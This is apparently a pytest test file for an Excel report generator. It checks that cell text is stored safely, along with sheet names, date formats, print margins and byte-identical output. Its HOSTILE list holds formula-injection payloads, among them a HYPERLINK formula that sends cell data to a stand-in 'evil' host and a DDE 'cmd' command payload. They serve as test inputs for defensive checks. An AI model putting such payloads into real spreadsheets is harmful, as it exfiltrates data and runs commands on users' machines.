"""What all workbooks share: safe text, names of sheets, formats, margins, still bytes."""

import re
import zipfile
from datetime import UTC, date, datetime, timedelta, timezone
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from python_calamine import CalamineWorkbook
from support.summary_samples import ENGLISH, RUSSIAN

from reports.excel.styles import (
    Marks,
    Pen,
    Style,
    add_sheet,
    clean,
    date_format,
    day_text,
    moment_format,
    new_book,
    page_mark,
    save,
    set_up_print,
    sheet_title,
)
from reports.texts import Texts

NOON = datetime(2020, 11, 12, 12, 0, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    " =1",
    "\u200b=1",
    "＝1",
    "{=1+1}",
    "#REF!",
    "TRUE",
    "00123",
    "+7 701 000 00 01",
    "1E5",
    "2020-11-12",
    "<b>&amp;</b>",
    "_x0041_",
    "Ҳоҷиев Илҳом",
    "نام",
]


def book_of(*texts: str) -> bytes:
    book = new_book(ENGLISH, title="Test", creator="Homeward")
    pen = Pen(add_sheet(book, "Sheet"))
    for row, text in enumerate(texts, 1):
        pen.text(row, 1, text)
    return save(book, NOON)


def read(data: bytes) -> Workbook:
    return load_workbook(BytesIO(data))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_stays_the_same_text(text: str) -> None:
    data = book_of(text)
    cell = read(data)["Sheet"]["A1"]
    assert cell.data_type == "s"
    assert cell.number_format == "@"
    (row,) = CalamineWorkbook.from_filelike(BytesIO(data)).get_sheet_by_index(0).to_python()
    assert row == [text]


def test_no_formula_is_in_the_file() -> None:
    with zipfile.ZipFile(BytesIO(book_of(*HOSTILE))) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_a_formula_is_not_saved_even_if_somebody_wrote_one() -> None:
    book = new_book(ENGLISH, title="Test", creator="Homeward")
    add_sheet(book, "Sheet")["A1"] = "=1+1"
    with pytest.raises(ValueError, match="type f"):
        save(book, NOON)


@given(st.text(st.characters(categories=["L", "N", "P", "S", "Z", "C"]), max_size=60))
@example("_x0041_ _x005F_x0041_")
def test_any_text_is_read_back_as_it_was_cleaned(text: str) -> None:
    data = book_of(text + ".")
    (row,) = CalamineWorkbook.from_filelike(BytesIO(data)).get_sheet_by_index(0).to_python()
    assert row == [re.sub("_x005F_(?=x[0-9A-Fa-f]{4}_)", "_", clean(text + "."))]


def test_clean_takes_out_what_xml_and_eyes_cannot_bear() -> None:
    assert clean("a\x00b\x0bc\x1fd\x7fe\x85f\ud800g\uffffh") == "abcdefgh"
    assert clean("invoice\u202efdp.exe\u2066") == "invoicefdp.exe"
    assert clean("a\r\nb\rc\u2028d") == "a\nb\nc\nd"
    assert clean("می\u200cخواهم") == "می\u200cخواهم"


def test_clean_cuts_where_excel_would_refuse() -> None:
    assert len(clean("a" * 40_000)) == 32_767
    emoji = clean("😀" * 20_000)
    assert len(emoji.encode("utf-16-le")) // 2 <= 32_767
    assert set(emoji) == {"😀"}


@pytest.mark.parametrize(
    ("text", "taken", "name"),
    [
        ("Waiting time", (), "Waiting time"),
        ("a/b:c?d*e[f]g\\h", (), "a b c d e f g h"),
        ("'quoted'", (), "quoted"),
        ("", (), "Sheet"),
        ("History", (), "History 2"),
        ("List", ("LIST", "list 2"), "List 3"),
        ("x" * 40, (), "x" * 31),
        ("x" * 40, ("x" * 31,), "x" * 29 + " 2"),
        ("a" * 30 + " b", (), "a" * 30),
    ],
)
def test_names_of_sheets(text: str, taken: tuple[str, ...], name: str) -> None:
    assert sheet_title(text, taken) == name


def test_formats_of_dates_follow_the_language() -> None:
    french = Texts(language="fr", paper_date="%d/%m/%Y")
    assert date_format(ENGLISH) == "[$-409]DD MMM YYYY"
    assert date_format(RUSSIAN) == "DD.MM.YYYY"
    assert date_format(french) == "DD\\/MM\\/YYYY"
    assert moment_format(RUSSIAN, "UTC+6") == 'DD.MM.YYYY HH:MM "UTC+6"'
    assert moment_format(RUSSIAN, 'a"b') == 'DD.MM.YYYY HH:MM "ab"'
    assert day_text(ENGLISH, date(2020, 11, 2)) == "2 Nov 2020"
    assert day_text(RUSSIAN, date(2020, 11, 2)) == "02.11.2020"


@pytest.mark.parametrize("texts", [ENGLISH, RUSSIAN, Texts(language="fr", paper_date="%d/%m/%Y")])
def test_dates_and_times_are_read_as_dates(texts: Texts) -> None:
    book = new_book(texts, title="Test", creator="Homeward")
    pen = Pen(add_sheet(book, "Sheet"))
    local = datetime(2020, 11, 3, 4, 20, tzinfo=timezone(timedelta(hours=5)))
    pen.value(1, 1, date(2020, 11, 2), Style.DATE)
    pen.value(2, 1, local, Style.MOMENT, moment_format(texts, "UTC+5"))
    pen.value(3, 1, None, Style.DATE)
    data = save(book, NOON)
    sheet = read(data)["Sheet"]
    assert sheet["A1"].value == datetime(2020, 11, 2)  # noqa: DTZ001 - Excel has no zones
    assert sheet["A2"].value == local.replace(tzinfo=None)
    assert sheet["A3"].value is None
    rows = CalamineWorkbook.from_filelike(BytesIO(data)).get_sheet_by_index(0).to_python()
    assert rows[0] == [date(2020, 11, 2)]
    assert rows[1] == [local.replace(tzinfo=None)]


def test_cells_carry_the_named_styles() -> None:
    book = new_book(ENGLISH, title="Test", creator="Homeward")
    pen = Pen(add_sheet(book, "Sheet"))
    for row, style in enumerate(Style, 1):
        pen.text(row, 1, "x", style)
    sheet = read(save(book, NOON))["Sheet"]
    assert [sheet.cell(row, 1).style for row in range(1, len(Style) + 1)] == [
        style.value for style in Style
    ]
    assert all(style.value.startswith("HW") for style in Style)


def test_one_cell_changed_by_hand_changes_no_other() -> None:
    book = new_book(ENGLISH, title="Test", creator="Homeward")
    pen = Pen(add_sheet(book, "Sheet"))
    pen.text(1, 1, "a")
    pen.text(2, 1, "b")
    pen.sheet["A1"].number_format = "0.00"
    assert pen.sheet["A2"].number_format == "@"


def test_the_same_book_is_the_same_bytes_and_leaves_nothing_on_the_disk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    assert book_of("a", "b") == book_of("a", "b")
    assert list(tmp_path.iterdir()) == []


def test_the_file_tells_the_time_it_is_given_and_nothing_of_the_machine() -> None:
    data = book_of("a")
    properties = read(data).properties
    assert properties.created == properties.modified == NOON.replace(tzinfo=None)
    assert properties.creator == "Homeward"
    with zipfile.ZipFile(BytesIO(data)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(2020, 11, 12, 12, 0, 0)}
        assert {info.create_system for info in archive.infolist()} == {3}


def test_a_moment_without_a_zone_is_refused() -> None:
    book = new_book(ENGLISH, title="Test", creator="Homeward")
    add_sheet(book, "Sheet")
    with pytest.raises(ValueError, match="time zone"):
        save(book, datetime(2020, 11, 12))  # noqa: DTZ001 - this is what must be refused


def test_margins_double_ampersands_and_stay_short() -> None:
    book = new_book(ENGLISH, title="Test", creator="Homeward")
    sheet = add_sheet(book, "Sheet")
    marks = Marks("A & B " * 60, "data", "12.11.2020 v1", page_mark(RUSSIAN))
    set_up_print(sheet, marks, area="A1:C9", landscape=True, head_row=4)
    header, footer = sheet.oddHeader, sheet.oddFooter
    assert header.left.text.startswith("&8A && B ")
    assert header.left.text.endswith("…")
    assert footer.center.text == "&8 12.11.2020 v1"
    assert footer.right.text == "&9Стр. &P из &N"
    assert len(str(header)) <= 255
    assert len(str(footer)) <= 255


def test_print_set_up() -> None:
    book = new_book(ENGLISH, title="Test", creator="Homeward")
    sheet = add_sheet(book, "Temps d'attente")
    Pen(sheet).text(1, 1, "a")
    marks = Marks("a", "b", "c", page_mark(ENGLISH))
    set_up_print(sheet, marks, area="A1:C9", landscape=True, head_row=4)
    read_back = read(save(book, NOON)).worksheets[0]
    assert read_back.page_setup.orientation == "landscape"
    assert read_back.page_setup.paperSize == 9
    assert (read_back.page_setup.fitToWidth, read_back.page_setup.fitToHeight) == (1, 0)
    assert read_back.sheet_properties.pageSetUpPr.fitToPage
    assert read_back.print_title_rows == "$4:$4"
    assert read_back.print_area == "'Temps d''attente'!$A$1:$C$9"


def test_numbers_kept_as_text_are_not_marked_as_mistakes() -> None:
    with zipfile.ZipFile(BytesIO(book_of("00123", "+7701"))) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b'<ignoredError sqref="A1:A2" numberStoredAsText="1"' in xml


def test_a_row_without_cells_keeps_its_height() -> None:
    book = new_book(ENGLISH, title="Test", creator="Homeward")
    pen = Pen(add_sheet(book, "Sheet"))
    pen.text(2, 1, "a")
    for row in (1, 2, 4):
        pen.sheet.row_dimensions[row].height = 10 + row
    sheet = read(save(book, NOON))["Sheet"]
    assert [sheet.row_dimensions[row].height for row in (1, 2, 3, 4)] == [11, 12, None, 14]
